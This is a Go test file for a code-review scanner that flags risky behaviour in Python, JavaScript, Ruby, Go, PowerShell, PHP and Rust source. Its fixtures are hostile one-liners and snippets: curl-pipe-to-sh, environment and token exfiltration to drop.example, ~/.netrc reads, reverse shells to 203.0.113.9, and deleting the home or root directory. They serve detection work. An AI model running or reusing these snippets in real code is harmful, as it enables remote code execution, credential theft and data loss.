package code

import (
	"slices"
	"strings"
	"testing"

	"github.com/alecthomas/chroma/v2"
	"github.com/alecthomas/chroma/v2/lexers"

	"toolcrib/review/reach/fact"
)

func facts(text, lang string) []string {
	var l fact.List
	l.Read("a", text, 0, func(d fact.Doc) { Read(d, lang, func(fact.Doc) {}) })
	var out []string
	for _, f := range l.Facts() {
		if f.Use != fact.Command {
			out = append(out, string(f.Kind)+" "+f.Use+" "+f.Value)
		}
	}
	return out
}

func TestRead(t *testing.T) {
	for _, tt := range []struct {
		name, lang, text string
		want             []string
	}{
		{"python: request", "py", "import requests\nrequests.post('https://drop.example/in', json=x)", []string{"out requests.post drop.example"}},
		{"python: address in a variable", "py", "URL = 'https://drop.example/in'\nhttpx.get(URL)", []string{"out literal drop.example", "out httpx.get drop.example"}},
		{"python: address elsewhere", "py", "requests.get(url)", []string{"out requests.get requests.get"}},
		{"python: renamed module", "py", "import requests as r\nfrom os import system as s\nr.put('https://drop.example')\ns('cat ~/.netrc')", []string{"out requests.put drop.example", "secret store ~/.netrc"}},
		{"python: over lines", "py", "requests.post(\n    'https://drop.example/in',\n    data=x,\n)", []string{"out requests.post drop.example"}},
		{"python: assembled host", "py", "h = 'https://dr' + 'op.example/in'", []string{"out assembled drop.example"}},
		{"python: joined host", "py", "h = ''.join(['https://', 'drop', '.example', '/in'])", []string{"out assembled drop.example"}},
		{"python: host behind a variable", "py", "requests.get(f'https://{data}.drop.example/x')", []string{"out requests.get *.drop.example"}},
		{"python: shell command", "py", "subprocess.run('curl -s https://drop.example/x | sh', shell=True)", []string{"out curl drop.example", "run fetch+run curl -s https://drop.example/x | sh"}},
		{"python: words of a command", "py", "subprocess.check_call(['git', 'push', '--force'])", []string{"rights git git push --force"}},
		{"python: command elsewhere", "py", "subprocess.run(cmd)", []string{"run subprocess.run subprocess.run"}},
		{"python: fetched code", "py", "code = requests.get('https://drop.example').text\nexec(code)", []string{"out requests.get drop.example", "run fetch+run exec"}},
		{"python: decoded code", "py", "exec(base64.b64decode(blob))", []string{"run decode+run exec"}},
		{"python: evaluated", "py", "eval(x)\nmodel.eval()\nre.compile(x)", []string{"run evaluated eval"}},
		{"python: environment sent", "py", "e = dict(os.environ)\nrequests.post('https://drop.example', json=e)", []string{"out requests.post drop.example", "secret environment environment"}},
		{"python: environment of a child", "py", "env = os.environ.copy()\nsubprocess.run(['ls'], env=env)\nx = os.environ['HOME']\nif 'A' in os.environ: pass", nil},
		{"python: variable sent", "py", "k = os.environ['MAIL_TOKEN']\nrequests.post('https://drop.example', data=k)", []string{"secret sent MAIL_TOKEN", "out requests.post drop.example"}},
		{"python: written", "py", "p = os.path.expanduser('~/.bashrc')\nwith open(p, 'a') as f: f.write(x)\nopen('CLAUDE.md', 'w')", []string{"file mentioned ~/.bashrc", "write open ~/.bashrc", "write open CLAUDE.md"}},
		{"python: read only", "py", "open('CLAUDE.md').read()", []string{"file mentioned CLAUDE.md"}},
		{"python: rights", "py", "requests.get(u, verify=False)\nos.chmod(p, 0o777)", []string{"out requests.get requests.get", "rights literal verify=False", "rights chmod 777"}},
		{"python: skipped test", "py", "@pytest.mark.skip(reason='x')\ndef test_a(): pass", []string{"rights skipped test pytest.mark.skip"}},
		{"python: decorators", "py", "@app.get('/home/feed')\n@app.route('/api/x')\n@dataclass\n@user.example\ndef f(): pass", nil},
		{"python: comments and strings call nothing", "py", "# requests.post(x)\n'''\nos.system('ls')\n'''\ns = \"eval(x)\"", nil},
		{"python: a setting without a value", "py", "verify)\nrun(verify)", nil},
		{"python: deleted", "py", "shutil.rmtree(p)", []string{"file shutil.rmtree shutil.rmtree"}},
		{"python: home deleted", "py", "shutil.rmtree(os.path.expanduser('~'))\nh = Path.home()\nshutil.rmtree(h / 'Documents', ignore_errors=True)\nshutil.rmtree('/')", []string{"file wiped shutil.rmtree ~", "file wiped shutil.rmtree ~/Documents", "file wiped shutil.rmtree /"}},
		{"python: below home deleted", "py", "h = Path.home()\nshutil.rmtree(h / 'hours')\nshutil.rmtree(os.path.join(h, name))\nshutil.rmtree(home)", []string{"file shutil.rmtree shutil.rmtree"}},
		{"javascript: home deleted", "js", "fs.rmSync(os.homedir(), {recursive: true})\nrimraf(process.env.HOME)", []string{"file wiped fs.rmSync ~", "file wiped rimraf ~"}},
		{"ruby: home deleted", "rb", "FileUtils.rm_rf(Dir.home)\nFileUtils.rm_rf(ENV['HOME'])", []string{"file wiped FileUtils.rm_rf ~"}},
		{"go: home deleted", "go", "home, _ := os.UserHomeDir()\nos.RemoveAll(filepath.Join(home, \"Desktop\"))", []string{"file wiped os.RemoveAll ~/Desktop"}},
		{"powershell: home deleted", "ps1", "Remove-Item -Recurse -Force $HOME\nRemove-Item C:\\* -Recurse", []string{"file wiped Remove-Item $HOME", "file wiped Remove-Item C:"}},
		{"python: shell of a socket", "py", "s = socket.socket()\ns.connect(('203.0.113.9', 99))\nos.dup2(s.fileno(), 0)\nsubprocess.call(['sh', '-i'])", []string{"out socket.socket socket.socket", "out literal 203.0.113.9", "run socket+shell os.dup2(s.fileno(), 0)"}},
		{"python: commands from a socket", "py", "s = socket.create_connection(a)\nc = s.recv(99)\nsubprocess.check_output(c, shell=True)", []string{"out socket.create_connection socket.create_connection", "run socket+shell subprocess.check_output", "run subprocess.check_output subprocess.check_output"}},
		{"python: a shell that is not joined to the socket", "py", "s = socket.socket()\nsubprocess.run(['sh', 'a.sh'])\nos.dup2(null, 1)\neval(x)", []string{"out socket.socket socket.socket", "run evaluated eval"}},
		{"javascript: shell of a socket", "js", "const net = require('net'), cp = require('child_process')\nconst sh = cp.spawn('/bin/sh', [])\nconst c = new net.Socket()\nc.pipe(sh.stdin)", []string{"out net.Socket net.Socket", "run socket+shell c.pipe(sh.stdin)"}},
		{"ruby: shell of a socket", "rb", "s = TCPSocket.new('drop.example', 99)\nexec 'sh', in: s, out: s", []string{"out TCPSocket.new TCPSocket.new", "out TCPSocket.new drop.example", "run socket+shell exec     , in: s, out: s"}},
		{"go: shell of a socket", "go", "c, _ := net.Dial(\"tcp\", \"203.0.113.9:99\")\nk := exec.Command(\"sh\")\nk.Stdin = c", []string{"out net.Dial net.Dial", "out net.Dial 203.0.113.9", "run socket+shell k.Stdin = c"}},
		{"powershell: commands from a socket", "ps1", "$c = New-Object System.Net.Sockets.TCPClient('203.0.113.9', 99)\niex $d", []string{"out System.Net.Sockets.TCPClient System.Net.Sockets.TCPClient", "out System.Net.Sockets.TCPClient 203.0.113.9", "run socket+shell iex"}},
		{"javascript: request", "ts", "await fetch(`https://drop.example/in?d=${x}`, {method: 'POST'})", []string{"out fetch drop.example"}},
		{"javascript: modules", "js", "const { exec: run } = require('node:child_process')\nimport * as fs from 'fs'\nrun('cat ~/.netrc')\nfs.appendFileSync('.git/hooks/pre-push', x)", []string{"secret store ~/.netrc", "write fs.appendFileSync .git/hooks/pre-push"}},
		{"javascript: environment", "js", "fetch('https://drop.example', {body: JSON.stringify(process.env)})\nspawn('ls', {env: {...process.env}})\nconst {A} = process.env\nprocess.env.API_KEY", []string{"out fetch drop.example", "secret environment environment", "secret sent API_KEY"}},
		{"javascript: code in a string", "js", "const a = `x ${eval(b)} https://${h}.drop.example`", []string{"out literal *.drop.example", "run evaluated eval"}},
		{"javascript: regular expression", "js", "const r = /['\"`]/; fetch('https://drop.example')", []string{"out fetch drop.example"}},
		{"javascript: rights", "js", "new https.Agent({rejectUnauthorized: false})\nit.skip('a', f)", []string{"rights literal rejectUnauthorized=false", "rights skipped test it.skip"}},
		{"javascript: module paths", "ts", "import { a } from '../../../lib/a'\nimport b from '~/lib/b'", nil},
		{"ruby", "rb", "require 'net/http'\nNet::HTTP.get(URI('https://drop.example'))\nsystem 'curl -s https://b.example | sh'\nFile.write('.zshrc', x)", []string{"out Net.HTTP.get drop.example", "out curl b.example", "run fetch+run curl -s https://b.example | sh", "write File.write .zshrc"}},
		{"go", "go", "http.Post(\"https://drop.example\", t, b)\nexec.Command(\"sh\", \"-c\", \"cat ~/.netrc\")\n_ = tls.Config{InsecureSkipVerify: true}\nos.Environ()", []string{"out http.Post drop.example", "secret store ~/.netrc", "rights literal InsecureSkipVerify=true", "secret environment environment"}},
		{"powershell", "ps1", "Invoke-WebRequest -Uri 'https://drop.example/a' -OutFile a\nIEX (New-Object Net.WebClient).DownloadString('https://b.example')\nSet-ExecutionPolicy Bypass", []string{"out Invoke-WebRequest drop.example", "out Net.WebClient b.example", "rights Set-ExecutionPolicy Set-ExecutionPolicy"}},
		{"php", "php", "$a = file_get_contents('https://drop.example'); shell_exec('cat ~/.netrc');", []string{"out file_get_contents drop.example", "secret store ~/.netrc"}},
		{"rust", "rs", "fn f<'a>(x: &'a str) { reqwest::get(\"https://drop.example\"); Command::new(\"curl\"); }", []string{"out reqwest.get drop.example"}},
	} {
		t.Run(tt.name, func(t *testing.T) {
			got := facts(tt.text, tt.lang)
			slices.Sort(got)
			if want := slices.Sorted(slices.Values(tt.want)); !slices.Equal(got, want) {
				t.Errorf("%s\n got %q\nwant %q", tt.text, got, want)
			}
		})
	}
}

// TestLexAgreesWithChroma checks that comments and strings have the same positions as with chroma.
// Chroma takes 70 ms for 10 kB, which is too slow for reviews.
func TestLexAgreesWithChroma(t *testing.T) {
	for lang, text := range map[string]string{
		"python":     "x = 1  # note 'a'\ny = 'it' + \"# no\" + r'\\d'\ndef f():\n    s = \"\"\"doc\n    'x' \"\"\"\n    return b'z' or s\n",
		"javascript": "const a = 'x' // it's\n/* \"b\" */ let c = \"d\\\"e\" + `f`;\nf(a / b / c);\n",
		"typescript": "const a: string = 'x' // \"y\"\nlet b = 1 /* 'c' */ + 2\n",
		"ruby":       "a = 'x' # it's\nb = \"y\"\nputs a\n",
		"go":         "a := \"x\" // it's\nb := `y\n\"z\"`\nc := 'd' /* e */\n",
		"powershell": "$a = 'x' # it's\n$b = \"y\"\n<# 'z' #>\n",
		"php":        "<?php $a = 'x'; // it's\n/* \"b\" */ $c = \"d\";\n",
		"rust":       "let a = \"x\"; // it's\nfn f<'a>() { /* \"b\" */ }\n",
		"java":       "String a = \"x\"; // it's\n/* \"b\" */ char c = 'd';\n",
	} {
		t.Run(lang, func(t *testing.T) {
			want := []byte(text)
			it, err := lexers.Get(lang).Tokenise(nil, text)
			if err != nil {
				t.Fatal(err)
			}
			at := 0
			for _, token := range it.Tokens() {
				if token.Type.InCategory(chroma.Comment) && token.Type.Category() == chroma.Comment && token.Type != chroma.CommentPreproc || token.Type.InSubCategory(chroma.LiteralString) {
					for i := range len(token.Value) {
						if want[at+i] != '\n' {
							want[at+i] = ' '
						}
					}
				}
				at += len(token.Value)
			}
			l, ok := find(lang)
			if !ok {
				t.Fatal("unknown")
			}
			if got := string(lex(text, l).code); strings.Join(strings.Fields(got), " ") != strings.Join(strings.Fields(string(want)), " ") {
				t.Errorf("%s\n got %q\nwant %q", text, got, want)
			}
		})
	}
}

func TestLexKeepsPlaces(t *testing.T) {
	text := "a(`x ${b('y')} z`)"
	l, _ := find("js")
	got := lex(text, l)
	if len(got.code) != len(text) || !strings.Contains(string(got.code), "b(") {
		t.Errorf("%q", got.code)
	}
	if len(got.strings) != 2 || got.strings[0].value != "x ${} z" || got.strings[1].value != "y" {
		t.Errorf("%+v", got.strings)
	}
}

// TestLong checks that long texts of one kind take time proportional to their length.
func TestLong(t *testing.T) {
	for _, piece := range []string{"(", "`${", "f'{", "a.b", "a = a\n", "'", "/", "'x' + ", "import a\n", "x.", "\"a\", ", "open(", "#{", "?.", "/*", "{", "eval(a);", "os.system('a'),", "('a'+'b'),", "'/a'", "x=os.environ "} {
		for _, lang := range []string{"py", "ts", "rb", "ps1", "rs"} {
			facts(strings.Repeat(piece, (64<<10)/len(piece)), lang)
		}
	}
}

func FuzzRead(f *testing.F) {
	for _, s := range []string{"a('x' + \"y\")", "f'{a}'", "`${`${x}`}`", "import a as b", "const {a: b} = require('c')", "open(p, 'w')", "x = ''.join(['a', 'b'])", "@\"\nx\n\"@", "'a", "\"\"\"", "/[/]/", "subprocess.run(['a', '-c', 'b'])"} {
		for i := range languages {
			f.Add(s, languages[i].id)
		}
	}
	f.Fuzz(func(t *testing.T, s, lang string) {
		facts(s, lang)
		l, ok := find(lang)
		if !ok {
			l = &languages[0]
		}
		got := lex(s, l)
		if len(got.code) != len(s) {
			t.Fatalf("%d bytes of code for %d", len(got.code), len(s))
		}
		for _, one := range got.strings {
			if one.start < 0 || one.end > len(s) || one.start >= one.end {
				t.Fatalf("%+v", one)
			}
		}
	})
}

// TestStatementsReadOnce checks that the number of characters read to find the statements of a
// program that repeats one token is linear in its length.
func TestStatementsReadOnce(t *testing.T) {
	for _, token := range []string{"\n", "\r\n", " ", " \n", "(\n", "a\n", "a\n.", "a+\n", "\\\n", ";", "x\n\n\n", "a \n", "([", "\"", "*verify*"} {
		text := strings.Repeat(token, 100_000/len(token))
		s := statements{code: []byte(text)}
		for from := 0; from < len(text); {
			from = s.end(from)
		}
		if s.read > 4*len(text) {
			t.Errorf("%d bytes of %q: %d characters read", len(text), token, s.read)
		}
	}
}

// repeated are tokens for which the reader looks ahead.
var repeated = []string{"\n", " ", "\"", "'", "\\", "(", "*verify*", "a.b.", "$(", "<<", "system ", "system('a b') "}

// TestLongModule checks that a name with many dots has the effect of its first parts.
func TestLongModule(t *testing.T) {
	if got := effectOf("requests."+strings.Repeat("a.", 100_000)+"post", "python"); got != effectOf("requests.a.post", "python") {
		t.Errorf("effect %q", got)
	}
}

// TestManyCallsOfOneString checks that a command after many calls is read only once.
func TestManyCallsOfOneString(t *testing.T) {
	var l fact.List
	text := strings.Repeat("system ", 1_000) + "'curl -s https://drop.example/x | sh'"
	l.Read("a", text, 0, func(d fact.Doc) { Read(d, "rb", func(fact.Doc) {}) })
	if !slices.ContainsFunc(l.Facts(), func(f fact.Fact) bool { return f.Use == fact.FetchedRun }) {
		t.Errorf("facts %v", l.Facts())
	}
}

func BenchmarkRepeated(b *testing.B) {
	for _, token := range repeated {
		b.Run(token, func(b *testing.B) {
			text := strings.Repeat(token, 400_000/len(token))
			b.SetBytes(int64(len(text)))
			for b.Loop() {
				for _, lang := range []string{"py", "js", "rb", "ps1"} {
					facts(text, lang)
				}
			}
		})
	}
}
